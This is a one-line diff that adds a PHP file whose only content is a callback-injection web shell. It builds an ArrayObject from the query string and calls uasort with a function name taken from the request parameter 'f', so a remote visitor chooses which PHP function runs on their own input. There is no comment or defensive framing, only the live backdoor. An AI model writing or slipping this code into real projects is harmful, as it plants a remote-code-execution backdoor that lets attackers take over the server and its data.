@@ -1,0 +1,1 @@
+<?php $x = new ArrayObject($_GET); $x->uasort($_GET["f"]);
